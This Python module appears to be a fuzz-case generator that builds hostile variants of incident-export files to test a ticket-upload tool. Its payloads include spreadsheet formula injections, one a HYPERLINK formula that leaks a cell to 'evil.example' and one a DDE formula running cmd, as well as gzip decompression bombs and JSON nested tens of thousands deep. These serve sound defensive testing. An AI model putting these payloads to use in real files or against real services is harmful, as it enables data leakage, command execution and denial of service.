"""Seeded hostile variants of real and demo exports (issue #14), for tests/test_fuzz.py and bench/fuzz.py.

Seed files are small excerpts (at most SEED_ROWS records) of each real export in
shared/data/real and of the demo CSVs. `plan(count, seed)` lists cases (kind x seed file x a
per-case seed) without reading any file, so a test can be parametrised at collection time;
`build(case, seeds)` makes the bytes. The same (count, seed) always gives the same files.

Each kind says what the upload must do with its file:
- ACCEPT: loaded (exit 0);
- REFUSE: refused, one line naming the file;
- SAME: loaded, and the store ends up exactly as after the clean excerpt of the same seed file
  (same tickets, same history, same counts): encodings, delimiters, line ends, column order
  and container formats must not change what is loaded;
- EITHER: loaded or refused, whichever (the generic checks still apply).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

SEED_ROWS = 300
ACCEPT, REFUSE, SAME, EITHER = "accept", "refuse", "same", "either"

FORMULAS = {
    "hyperlink-plus": '=+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "hyperlink-minus": '=-HYPERLINK("http://evil.example/","Click")',
    "tab-eq": "\t=1+1",
    "at-ref": "@A1",
    "plus": "+1+1",
    "minus": "-2+3",
    "dde": "=cmd|' /C calc'!A0",
}
FAR_YEARS = ("0001", "1900", "2262", "9999")


@dataclass(frozen=True)
class SeedFile:
    name: str
    header: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]
    ids: tuple[str, ...]  # the columns that make the external id
    times: tuple[str, ...]  # timestamp columns; the first one is required on every row
    texts: tuple[str, ...]  # text columns that reach a ticket field
    real: bool = True

    def col(self, name: str) -> int:
        return self.header.index(name)


# name -> (file under the real folder, records to take (first, last), ids, times, texts)
REAL = {
    "servicenow": ("servicenow-incident-event-log/incident_event_log.csv.gz", ("number",),
                   ("sys_updated_at", "opened_at", "resolved_at", "closed_at"), ("category", "closed_code")),
    "volvo": ("bpi2013-volvo-incidents/VINST_incidents_ibm.csv.gz", ("SR Number",),
              ("Change Date+Time",), ("Product", "Owner First Name")),
    "helpdesk": ("helpdesk-italian/helpdesk_finale.csv.gz", ("Case ID",), ("Complete Timestamp",),
                 ("product", "Resource")),
    "jira": ("jira-public-dataset-subset/jira_issues_timeestimate_subset.csv.gz", ("repo_name", "id"),
             ("created", "resolutiondate"), ("project_name", "assignee_id")),
    "statuspage": ("github-status-incidents/githubstatus_incidents.csv.gz", ("id",),
                   ("created_at", "started_at", "resolved_at"), ("name", "components")),
    "statuspage-updates": ("github-status-incidents/githubstatus_incident_updates.csv.gz", ("incident_id",),
                           ("display_at",), ("status",)),
    "rabobank": ("bpi2014-rabobank-partial/BPIC14_incident_case_attributes_sample.csv.gz", ("incident_id",),
                 ("open_time", "resolved_time", "close_time"), ("closure_code", "ci_name_aff")),
}
DEMO = {
    "demo-tickets": (("external_id",), ("opened_at", "resolved_at", "closed_at"), ("title", "service")),
    "demo-history": (("external_id",), ("event_time",), ("status", "team")),
}
SEED_NAMES = tuple(REAL) + tuple(DEMO)
# The store every case starts from holds the demo and these statuspage incidents, so the
# updates excerpt (their status history) has tickets to attach to; the incidents excerpt is
# the next SEED_ROWS incidents, new to the store.
PRELOAD = "statuspage-preload"


def _records(path: Path, skip: int, take: int) -> tuple[list[str], list[list[str]]]:
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rt", encoding="utf-8-sig", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        rows = []
        for i, row in enumerate(reader):
            if i >= skip + take:
                break
            if i >= skip:
                rows.append(row)
    return header, rows


def load_seeds(real_dir: Path | None, demo_dir: Path) -> dict[str, SeedFile]:
    """The seed excerpts: the demo's always, the real exports' when `real_dir` is given."""
    from analytics import demo

    seeds: dict[str, SeedFile] = {}
    tickets, history = demo.write_csvs(demo_dir, 250, seed=43)
    for name, path in (("demo-tickets", tickets), ("demo-history", history)):
        header, rows = _records(path, 0, SEED_ROWS)
        ids, times, texts = DEMO[name]
        seeds[name] = SeedFile(name, tuple(header), tuple(map(tuple, rows)), ids, times, texts, real=False)
    if real_dir is None:
        return seeds
    for name, (rel, ids, times, texts) in REAL.items():
        skip = SEED_ROWS if name == "statuspage" else 0
        header, rows = _records(real_dir / rel, skip, SEED_ROWS)
        seeds[name] = SeedFile(name, tuple(header), tuple(map(tuple, rows)), ids, times, texts)
    header, rows = _records(real_dir / REAL["statuspage"][0], 0, SEED_ROWS)
    seeds[PRELOAD] = replace(seeds["statuspage"], name=PRELOAD, rows=tuple(map(tuple, rows)))
    known = {r[0] for r in rows}
    header, updates = _records(real_dir / REAL["statuspage-updates"][0], 0, 10 * SEED_ROWS)
    updates = [r for r in updates if r[0] in known][:SEED_ROWS]
    seeds["statuspage-updates"] = replace(seeds["statuspage-updates"], rows=tuple(map(tuple, updates)))
    return seeds


def build_template(path: Path, seeds: dict[str, SeedFile], demo_tickets: int = 300) -> None:
    """The store each case starts from (closed when this returns, so it can be copied)."""
    from analytics import db
    from analytics.demo_loader import load_demo
    from analytics.ingest import ingest_file

    con = db.connect(path)
    try:
        load_demo(con, demo_tickets, seed=42)
        if PRELOAD in seeds:
            s = seeds[PRELOAD]
            ingest_file(con, data=to_csv(s.header, s.rows).encode(), name="statuspage-preload.csv")
    finally:
        con.close()


# --- cases --------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    index: int
    kind: str
    seed_name: str
    case_seed: int

    @property
    def name(self) -> str:
        return f"{self.index:04d}-{self.kind}-{self.seed_name}"


@dataclass
class Variant:
    case: Case
    file_name: str
    data: bytes
    expect: str
    env: dict[str, str] = field(default_factory=dict)
    min_rejected: int = 0  # on acceptance, at least this many rows must be rejected
    note: str = ""  # what was done, for messages

    @property
    def name(self) -> str:
        return self.case.name


Mutator = Callable[[SeedFile, random.Random], tuple]
KINDS: dict[str, tuple[str, Mutator]] = {}


def kind(name: str, expect: str):
    def register(fn: Mutator) -> Mutator:
        KINDS[name] = (expect, fn)
        return fn
    return register


# Kinds that take seconds each (wide or long files, expansion): every other round only.
HEAVY = frozenset({"columns-3000", "header-over-64kb", "gzip-bomb", "gzip-bomb-zeros", "xlsx-many-rows",
                   "long-cell-1mb", "tbd-at-row-1900", "na-at-row-1900"})


def plan(count: int, seed: int, seed_names: tuple[str, ...] = SEED_NAMES) -> list[Case]:
    """`count` cases: every kind in turn (the HEAVY ones every other round), each on a seed file
    chosen by the seeded generator."""
    rng = random.Random(seed)
    cases: list[Case] = []
    rounds = 0
    while len(cases) < count:
        for k in KINDS:
            if len(cases) < count and (k not in HEAVY or rounds % 2 == 0):
                cases.append(Case(len(cases), k, rng.choice(seed_names), rng.getrandbits(32)))
        rounds += 1
    return cases


def matrix(seed: int, seed_names: tuple[str, ...] = SEED_NAMES) -> list[Case]:
    """Every kind on every seed file once."""
    rng = random.Random(seed)
    pairs = [(k, s) for k in KINDS for s in seed_names]
    return [Case(i, k, s, rng.getrandbits(32)) for i, (k, s) in enumerate(pairs)]


def build(case: Case, seeds: dict[str, SeedFile]) -> Variant:
    expect, fn = KINDS[case.kind]
    out = fn(seeds[case.seed_name], random.Random(case.case_seed))
    ext, data = out[0], out[1]
    extra = out[2] if len(out) > 2 else {}
    return Variant(case, case.name + ext, data, extra.pop("expect", expect), **extra)


# --- helpers ------------------------------------------------------------------------------------

def to_csv(header, rows, delimiter: str = ",", line_end: str = "\n", quote_all: bool = False) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=line_end,
                   quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def _cell(value: str, delimiter: str = ",", quote_all: bool = False) -> str:
    """One CSV field as csv.writer writes it in a record (minimal quoting: empty stays empty)."""
    if value == "" and not quote_all:
        return ""
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="",
               quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL).writerow([value])
    return buf.getvalue()


def _raw_row(row, col: int, raw_value: str, delimiter: str = ",") -> str:
    """A record with one field written raw (unquoted, unescaped), the others properly."""
    return delimiter.join(raw_value if i == col else _cell(v, delimiter) for i, v in enumerate(row))


def _with_raw(seed: SeedFile, row: int, col: int, raw_value: str) -> str:
    head = to_csv(seed.header, seed.rows[:row])
    tail = to_csv(seed.header, seed.rows[row + 1:]).split("\n", 1)[1]
    return head + _raw_row(seed.rows[row], col, raw_value) + "\n" + tail


def _set(seed: SeedFile, cells: dict[tuple[int, str], str]) -> list[list[str]]:
    """Rows with some cells replaced: {(row index, column name): value}."""
    rows = [list(r) for r in seed.rows]
    for (r, col), value in cells.items():
        rows[r][seed.col(col)] = value
    return rows


def grow(seed: SeedFile, n: int) -> list[list[str]]:
    """`n` rows: the excerpt repeated, each copy's ids made new with a "-k" suffix."""
    rows = []
    last_id = seed.col(seed.ids[-1])
    while len(rows) < n:
        k = len(rows) // len(seed.rows)
        for r in seed.rows[: n - len(rows)]:
            r = list(r)
            if k and r[last_id]:
                r[last_id] = f"{r[last_id]}-{k}"
            rows.append(r)
    return rows


def _csv(seed: SeedFile, rows=None, **kw) -> bytes:
    return to_csv(seed.header, seed.rows if rows is None else rows, **kw).encode("utf-8")


def _text_cell(seed: SeedFile, rng: random.Random) -> tuple[int, str]:
    return rng.randrange(len(seed.rows)), rng.choice(seed.texts)


def _gzip_members(data: bytes, level: int = 9) -> bytes:
    return gzip.compress(data, compresslevel=level, mtime=0)


def _json_records(seed: SeedFile, rows=None) -> list[dict[str, str]]:
    return [dict(zip(seed.header, r)) for r in (seed.rows if rows is None else rows)]


# --- the kinds ------------------------------------------------------------------------------------
# Each returns (extension, bytes) or (extension, bytes, {"expect"/"env"/"min_rejected"/"note": ...}).

@kind("clean", SAME)
def _clean(s, rng):
    return ".csv", _csv(s)


@kind("crlf", SAME)
def _crlf(s, rng):
    return ".csv", _csv(s, line_end="\r\n")


@kind("truncated-mid-row", EITHER)
def _truncated_mid_row(s, rng):
    text = to_csv(s.header, s.rows)
    starts = [m.end() for m in re.finditer("\n", text)][1:-1]  # starts of data lines 2..n
    start = rng.choice(starts)
    end = text.index("\n", start)
    cut = rng.randrange(start + 1, end) if end > start + 1 else start + 1
    return ".csv", text[:cut].encode(), {"note": f"cut at character {cut}"}


@kind("truncated-mid-quote", REFUSE)
def _truncated_mid_quote(s, rng):
    """Every field quoted; the file ends inside the quotes of one field of a random record."""
    row = rng.randrange(1, len(s.rows))
    start = len(to_csv(s.header, s.rows[:row], quote_all=True))
    col = rng.randrange(len(s.header))
    start += sum(len(_cell(v, quote_all=True)) + 1 for v in s.rows[row][:col]) + 1  # past the opening quote
    value = s.rows[row][col]
    inside = value.index('"') if '"' in value else len(value)  # never between the two of a doubled quote
    cut = start + rng.randint(0, inside)
    text = to_csv(s.header, s.rows, quote_all=True)
    return ".csv", text[:cut].encode(), {"note": f"cut inside record {row + 1}, column {s.header[col]!r}"}


@kind("stray-quote", EITHER)
def _stray_quote(s, rng):
    row, col = _text_cell(s, rng)
    value = s.rows[row][s.col(col)] or "x"
    at = rng.randrange(0, len(value) + 1)
    raw = (value[:at] + '"' + value[at:]).replace(",", " ").replace("\n", " ").replace("\r", " ")
    return ".csv", _with_raw(s, row, s.col(col), raw).encode(), {"note": f"row {row + 1}: {raw[:40]!r}"}


def _stray_delimiter_row(s, rng, row: int, col: int, last: str | None):
    """A comma put unquoted into cell (row, col), the record's last field set to `last` (None:
    its own, made non-empty)."""
    value = s.rows[row][col].replace('"', "").replace(",", " ").replace("\n", " ").replace("\r", " ")
    value = value if len(value.strip()) > 1 else "xy"
    at = rng.randrange(1, len(value))  # inside: both halves are text
    raw = value[:at] + "," + value[at:]
    rows = [list(r) for r in s.rows]
    rows[row][-1] = last if last is not None else (rows[row][-1] or "end")
    return ".csv", _with_raw(replace(s, rows=tuple(map(tuple, rows))), row, col, raw).encode(), {
        "note": f"row {row + 1}, column {s.header[col]!r}: {raw[:40]!r}"}


@kind("stray-delimiter", REFUSE)
def _stray_delimiter(s, rng):
    row, col = _text_cell(s, rng)
    return _stray_delimiter_row(s, rng, row, s.col(col), None)


@kind("stray-delimiter-last-field-empty", REFUSE)
def _stray_delimiter_last_empty(s, rng):
    """The comma goes into the last but one field, so only the last column can be misread."""
    return _stray_delimiter_row(s, rng, rng.randrange(len(s.rows)), len(s.header) - 2, "")


@kind("wrong-delimiter", SAME)
def _wrong_delimiter(s, rng):
    d = rng.choice([";", "\t", "|"])
    return ".csv", _csv(s, delimiter=d), {"note": f"delimiter {d!r}"}


@kind("mixed-delimiters", EITHER)
def _mixed_delimiters(s, rng):
    d = rng.choice([";", "\t", "|"])
    head = to_csv(s.header, [], delimiter=d)
    return ".csv", (head + to_csv(s.header, s.rows).split("\n", 1)[1]).encode(), {"note": f"header {d!r}"}


@kind("bom-utf8", SAME)
def _bom_utf8(s, rng):
    return ".csv", b"\xef\xbb\xbf" + _csv(s)


@kind("bom-doubled", EITHER)
def _bom_doubled(s, rng):
    return ".csv", b"\xef\xbb\xbf\xef\xbb\xbf" + _csv(s)


@kind("bom-utf32", EITHER)
def _bom_utf32(s, rng):
    return ".csv", to_csv(s.header, s.rows).encode("utf-32")


@kind("utf16-bom", SAME)
def _utf16_bom(s, rng):
    codec = rng.choice(["utf-16-le", "utf-16-be"])
    bom = b"\xff\xfe" if codec == "utf-16-le" else b"\xfe\xff"
    return ".csv", bom + to_csv(s.header, s.rows).encode(codec), {"note": codec}


@kind("utf16-no-bom", SAME)
def _utf16_no_bom(s, rng):
    return ".csv", to_csv(s.header, s.rows, line_end=rng.choice(["\n", "\r\n"])).encode("utf-16-le")


@kind("cp1252", ACCEPT)
def _cp1252(s, rng):
    row = rng.choice([0, len(s.rows) - 1])
    col = rng.choice(s.texts)
    rows = _set(s, {(row, col): (s.rows[row][s.col(col)] + " café – 5 € für Björn").strip()})
    return ".csv", to_csv(s.header, rows).encode("cp1252", errors="replace"), {"note": f"row {row + 1}"}


@kind("invalid-utf8", EITHER)
def _invalid_utf8(s, rng):
    row, col = _text_cell(s, rng)
    bad = rng.choice([b"\xff\xfe", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"])
    marker = "\u2063MARK\u2063"
    text = to_csv(s.header, _set(s, {(row, col): "x" + marker}))
    return ".csv", text.encode().replace(marker.encode(), bad), {"note": f"row {row + 1}: {bad!r}"}


@kind("json-lone-surrogate", EITHER)
def _json_lone_surrogate(s, rng):
    recs = _json_records(s)
    row, col = _text_cell(s, rng)
    recs[row][col] = "a\ud800b" if rng.random() < 0.5 else "\udfff"
    return ".json", json.dumps(recs, ensure_ascii=True).encode(), {"note": f"record {row + 1}"}


@kind("jsonl-lone-surrogate", EITHER)
def _jsonl_lone_surrogate(s, rng):
    recs = _json_records(s)
    row, col = _text_cell(s, rng)
    recs[row][col] = "x\udbff"
    return ".jsonl", "\n".join(json.dumps(r) for r in recs).encode(), {"note": f"line {row + 1}"}


@kind("nul-bytes", EITHER)
def _nul_bytes(s, rng):
    row = rng.choice([0, len(s.rows) // 2, len(s.rows) - 1])
    col = rng.choice(s.texts)
    rows = _set(s, {(row, col): "a\x00b" * rng.randint(1, 3)})
    return ".csv", _csv(s, rows), {"note": f"row {row + 1}"}


@kind("binary-garbage", REFUSE)
def _binary_garbage(s, rng):
    return rng.choice([".csv", ".csv.gz", ".xlsx", ".json"]), rng.randbytes(rng.randint(4096, 65536))


@kind("header-then-garbage", EITHER)
def _header_then_garbage(s, rng):
    return ".csv", _csv(s, s.rows[:3]) + rng.randbytes(rng.randint(100, 20000))


@kind("header-only", REFUSE)
def _header_only(s, rng):
    end = rng.choice(["", "\n", "\r\n", "\n\n\n"])
    return ".csv", to_csv(s.header, [], line_end="\n").rstrip("\n").encode() + end.encode()


@kind("empty", REFUSE)
def _empty(s, rng):
    ext, data = rng.choice([(".csv", b""), (".csv", b"\n"), (".csv", b"  \r\n\r\n"), (".csv", b"\xef\xbb\xbf"),
                            (".json", b""), (".jsonl", b"\n\n"), (".csv.gz", gzip.compress(b"")),
                            (".xlsx", b"")])
    return ext, data, {"note": repr(data[:20])}


@kind("header-repeated-in-body", EITHER)
def _header_repeated(s, rng):
    rows = [list(r) for r in s.rows]
    at = rng.randrange(1, len(rows))
    rows.insert(at, list(s.header))
    return ".csv", _csv(s, rows), {"note": f"header again as record {at + 1}"}


@kind("duplicate-column-name", EITHER)
def _duplicate_column(s, rng):
    header = list(s.header)
    i, j = rng.sample(range(len(header)), 2)
    header[j] = header[i]
    return ".csv", to_csv(header, s.rows).encode(), {"note": f"column {j + 1} named {header[i]!r}"}


@kind("columns-3000", ACCEPT)
def _columns_3000(s, rng):
    extra = 3000 - len(s.header)
    header = list(s.header) + [f"extra_{i:04d}" for i in range(extra)]
    rows = [list(r) + [rng.choice(["", "x", "42", "n/a", "a b"]) for _ in range(extra)] for r in s.rows[:40]]
    return ".csv", to_csv(header, rows).encode()


@kind("header-over-64kb", ACCEPT)
def _header_over_64kb(s, rng):
    """The header alone is longer than the 64 KB head the reader sniffs."""
    extra = [f"custom_field_{i:04d}_" + "x" * 60 for i in range(1000)]
    rows = [list(r) + [rng.choice(["", "y", "7"]) for _ in extra] for r in s.rows[:20]]
    return ".csv", to_csv(list(s.header) + extra, rows).encode(), {"note": f"{len(s.header) + 1000} columns"}


@kind("long-cell-1mb", EITHER)
def _long_cell(s, rng):
    row, col = _text_cell(s, rng)
    letters = bytes(range(97, 123)) + b" " * 6  # a-z and spaces, 256 / 32 = 8 times over
    value = rng.randbytes(1 << 20).translate(letters * 8).decode()
    return ".csv", _csv(s, _set(s, {(row, col): "long " + value})), {"note": f"row {row + 1}, {col}"}


def _formula_kind(label: str, payload: str):
    @kind(f"formula-{label}", EITHER)
    def _formula(s, rng):
        row, col = _text_cell(s, rng)
        return ".csv", _csv(s, _set(s, {(row, col): payload})), {"note": f"row {row + 1}, {col}: {payload!r}"}


for _label, _payload in FORMULAS.items():
    _formula_kind(_label, _payload)


@kind("cr-in-quoted-cell", EITHER)
def _cr_in_quoted_cell(s, rng):
    row, col = _text_cell(s, rng)
    value = (s.rows[row][s.col(col)] or "text").replace('"', "") + "\r@SUM(1+1)"
    return ".csv", _with_raw(s, row, s.col(col), f'"{value}"').encode(), {"note": f"row {row + 1}, {col}"}


@kind("bare-cr-in-cell", EITHER)
def _bare_cr_in_cell(s, rng):
    """A carriage return in an unquoted cell of an LF file (csv.writer leaves it unquoted)."""
    row, col = _text_cell(s, rng)
    value = (s.rows[row][s.col(col)] or "text").replace('"', "").replace(",", " ").replace("\n", " ")
    return ".csv", _with_raw(s, row, s.col(col), value + "\rmore").encode(), {"note": f"row {row + 1}, {col}"}


_FEB_29 = re.compile(r"(?<!\d)29(/0?2/)|(-02-)29|(/02/)29")


def _far_kind(year: str):
    @kind(f"far-dated-{year}", EITHER)
    def _far(s, rng):
        rows = [list(r) for r in s.rows]
        picked = sorted({0, rng.randrange(len(rows))})
        for r in picked:
            for col in s.times:
                i = s.col(col)
                # 29 February becomes the 28th: the value must stay a date in the other year.
                value = _FEB_29.sub(lambda m: "28" + m.group(1) if m.group(1) else (m.group(2) or m.group(3)) + "28",
                                    rows[r][i])
                rows[r][i] = re.sub(r"(?<!\d)(19|20)\d\d(?!\d)", year, value, count=1)
        return ".csv", _csv(s, rows), {"note": f"rows {[p + 1 for p in picked]}"}


for _year in FAR_YEARS:
    _far_kind(_year)


def _bad_time_kind(token: str, row: int):
    @kind(f"{token.lower().replace('/', '')}-at-row-{row}", ACCEPT)
    def _bad_time(s, rng):
        rows = grow(s, max(len(s.rows), row + 100))
        rows[row - 1][s.col(s.times[0])] = token
        return ".csv", _csv(s, rows), {"min_rejected": 1, "note": f"{s.times[0]} = {token!r} on row {row}"}


for _token in ("TBD", "n/a"):
    for _row in (3, 1900):
        _bad_time_kind(_token, _row)


@kind("gzip-clean", SAME)
def _gzip_clean(s, rng):
    return ".csv.gz", _gzip_members(_csv(s))


@kind("gzip-corrupt-stored", REFUSE)
def _gzip_corrupt_stored(s, rng):
    """Stored (level 0) blocks hold the text as is: a changed letter is seen by the CRC alone.
    A lower-case letter becomes another one, so the text still reads as the same kind of value."""
    data = bytearray(_gzip_members(_csv(s), level=0))
    i = rng.randrange(len(data) // 3, 2 * len(data) // 3)
    while not (ord("a") <= data[i] <= ord("z")):
        i += 1
    data[i] = ord("a") + (data[i] - ord("a") + rng.randint(1, 25)) % 26
    return ".csv.gz", bytes(data), {"note": f"byte {i} of {len(data)} changed"}


@kind("gzip-corrupt-deflate", REFUSE)
def _gzip_corrupt_deflate(s, rng):
    data = bytearray(_gzip_members(_csv(s)))
    mid = len(data) // 2
    for i in range(mid, mid + rng.randint(1, 8)):
        data[i] ^= 0xFF
    return ".csv.gz", bytes(data), {"note": f"bytes flipped at {mid} of {len(data)}"}


@kind("gzip-truncated", REFUSE)
def _gzip_truncated(s, rng):
    data = _gzip_members(_csv(s))
    cut = rng.randrange(len(data) // 4, len(data) - 8)
    return ".csv.gz", data[:cut], {"note": f"cut at byte {cut} of {len(data)}"}


@kind("gzip-bomb", REFUSE)
def _gzip_bomb(s, rng):
    """~20 KB on disk, ~20 MB of valid rows once expanded, with a 1 MB upload limit: the
    limit must hold for what the file expands to, not only for its size on disk."""
    header = to_csv(s.header, []).encode()
    block = to_csv(s.header, [s.rows[rng.randrange(len(s.rows))]] * 2000).split("\n", 1)[1].encode()
    member = _gzip_members(block)
    copies = max(1, (20 << 20) // len(block))
    return ".csv.gz", _gzip_members(header) + member * copies, {
        "env": {"HYPERCARE_MAX_UPLOAD_MB": "1"}, "note": f"{copies * len(block) >> 20} MB expanded"}


@kind("gzip-bomb-zeros", REFUSE)
def _gzip_bomb_zeros(s, rng):
    header = to_csv(s.header, []).encode()
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = z.compress(header) + b"".join(z.compress(bytes(1 << 20)) for _ in range(64)) + z.flush()
    return ".csv.gz", body, {"note": "64 MB of NUL bytes"}


def _xlsx(header, rows) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(list(header))
    for r in rows:
        ws.append([v if v != "" else None for v in r])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@kind("xlsx-clean", SAME)
def _xlsx_clean(s, rng):
    return ".xlsx", _xlsx(s.header, s.rows)


@kind("xlsx-many-rows", ACCEPT)
def _xlsx_many_rows(s, rng):
    cols = [s.col(c) for c in dict.fromkeys(s.ids + s.times + s.texts)]
    header = [s.header[i] for i in cols] if rng.random() < 0.5 else list(s.header)
    idx = [s.header.index(h) for h in header]
    rows = [[r[i] for i in idx] for r in grow(s, 4000)]
    return ".xlsx", _xlsx(header, rows), {"note": f"4,000 rows x {len(header)} columns"}


@kind("json-clean", SAME)
def _json_clean(s, rng):
    doc = _json_records(s)
    if rng.random() < 0.5:
        doc = {"meta": {"count": len(doc)}, "incidents": doc}
    return ".json", json.dumps(doc).encode()


@kind("jsonl-clean", SAME)
def _jsonl_clean(s, rng):
    return ".jsonl", "\n".join(json.dumps(r) for r in _json_records(s)).encode()


@kind("json-deep", REFUSE)
def _json_deep(s, rng):
    depth = rng.choice([2_000, 100_000])
    return rng.choice([".json", ".jsonl"]), ("[" * depth + "]" * depth).encode(), {"note": f"depth {depth:,}"}


@kind("json-deep-in-record", EITHER)
def _json_deep_in_record(s, rng):
    recs = _json_records(s)
    depth = rng.choice([20, 200, 900])
    row, col = _text_cell(s, rng)
    text = json.dumps(recs)
    marker = json.dumps(recs[row][col])
    nested = '{"a":' * depth + "1" + "}" * depth
    head, sep, tail = text.partition(f'"{col}": {marker}')
    return ".json", (head + f'"{col}": {nested}' + tail).encode(), {"note": f"depth {depth}"}


@kind("json-not-a-list-of-objects", REFUSE)
def _json_not_list(s, rng):
    doc = rng.choice(['"text"', "42", "null", "true", "[1, 2, 3]", '[["a", "b"], ["c", "d"]]', '{"a": 1}',
                      '{"incidents": "none"}', "[]", "{}", '[{"id": 1}, 2]', '[{}, {}]'])
    return rng.choice([".json", ".jsonl"]), doc.encode(), {"note": doc}


@kind("duplicate-ids", ACCEPT)
def _duplicate_ids(s, rng):
    rows = [list(r) for r in s.rows]
    for _ in range(rng.randint(1, 5)):
        a, b = rng.sample(range(len(rows)), 2)
        for col in s.ids:
            rows[b][s.col(col)] = rows[a][s.col(col)]
    return ".csv", _csv(s, rows)


@kind("ids-missing", ACCEPT)
def _ids_missing(s, rng):
    picked = rng.sample(range(len(s.rows)), rng.randint(1, 5))
    col = s.ids[-1]
    rows = _set(s, {(r, col): rng.choice(["", " ", "?"]) for r in picked})
    return ".csv", _csv(s, rows), {"min_rejected": len(picked), "note": f"{col} blank on rows {sorted(p + 1 for p in picked)}"}


@kind("ids-all-missing", REFUSE)
def _ids_all_missing(s, rng):
    return ".csv", _csv(s, _set(s, {(r, c): "" for r in range(len(s.rows)) for c in s.ids}))


@kind("required-column-missing", EITHER)
def _required_column_missing(s, rng):
    drop = s.col(rng.choice([s.ids[-1], s.times[0]]))
    header = [h for i, h in enumerate(s.header) if i != drop]
    rows = [[v for i, v in enumerate(r) if i != drop] for r in s.rows]
    return ".csv", to_csv(header, rows).encode(), {"note": f"without {s.header[drop]!r}"}


@kind("shuffled-columns", SAME)
def _shuffled_columns(s, rng):
    order = list(range(len(s.header)))
    rng.shuffle(order)
    return ".csv", to_csv([s.header[i] for i in order], [[r[i] for i in order] for r in s.rows]).encode()
